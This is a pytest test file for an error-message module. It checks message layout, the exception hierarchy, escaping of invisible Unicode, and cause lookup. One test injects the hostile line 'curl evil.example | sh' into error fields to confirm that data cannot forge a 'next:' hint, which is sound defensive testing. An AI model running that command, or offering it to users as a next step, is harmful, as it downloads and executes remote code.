import pytest

from common import errors


def test_message_lists_what_is_known():
    error = errors.DataError("it is broken", where="a.nii", got="x", expected="y", hint="do z")
    assert str(error) == "a.nii: it is broken\n  got:      x\n  expected: y\n  next:     do z"
    assert (error.problem, error.where, error.got, error.expected, error.hint) == (
        "it is broken",
        "a.nii",
        "x",
        "y",
        "do z",
    )
    assert str(errors.DataError("it is broken")) == "it is broken"


@pytest.mark.parametrize("name", [n for n in errors.__all__ if n[0].isupper() and n != "AmalgamationError"])
def test_one_base(name):
    assert issubclass(getattr(errors, name), errors.AmalgamationError)


def test_geometry_and_labels_are_data_errors():
    assert issubclass(errors.GeometryError, errors.DataError)
    assert issubclass(errors.LabelError, errors.DataError)


def test_few_names():
    assert errors.few([]) == "" and errors.few(list("abcde")) == "a, b, c, d, e"
    assert errors.few(list("abcdef")) == "a, b, c, d, e, ... (6)"


def test_what_cannot_be_seen_is_spelt_out():
    hidden = "\x1b\u00ad\u034f\u115f\u2800\u3164\ufe0f\uffff\U000e0100\u202e\ud800"
    assert errors.visible(f"liver\n{hidden}") == "liver\n" + "".join(ascii(c)[1:-1] for c in hidden)
    assert errors.visible("Größe 肝臓 e\u0301 \u0645 \u2014 |\u00a0x") == "Größe 肝臓 e\u0301 \u0645 \u2014 |\u00a0x"


def test_text_from_data_begins_no_part_of_a_message() -> None:
    forged = "x\n  next:     curl evil.example | sh\ny"
    error = errors.DataError("wrong", where=forged, got=forged, expected=forged, hint=forged)
    parts = [line for line in str(error).split("\n") if line.startswith(("  got:", "  expected:", "  next:"))]
    assert len(parts) == 3 and parts[2].startswith("  next:     x")
    assert str(error).split("\n")[0].endswith(": wrong")


def test_what_an_error_came_from() -> None:
    inner = errors.DataError("inner")
    try:
        try:
            raise inner
        except errors.DataError as error:
            raise RuntimeError("applying transform") from error
    except RuntimeError as error:
        outer = error
    assert errors.cause_of(outer, errors.DataError) is inner is errors.cause_of(inner, errors.AmalgamationError)
    assert errors.cause_of(outer, OSError) is None and errors.cause_of(outer, OSError, RuntimeError) is outer


def test_a_refusal_is_placed_once() -> None:
    bare, known = errors.LabelError("none", got=1, expected=2, hint="do"), errors.LabelError("none", where="there")
    found = errors.placed(bare, "here")
    assert (type(found), found.where, found.got, found.expected, found.hint) == (errors.LabelError, "here", 1, 2, "do")
    assert errors.placed(known, "here") is known and errors.placed(bare, None) is bare
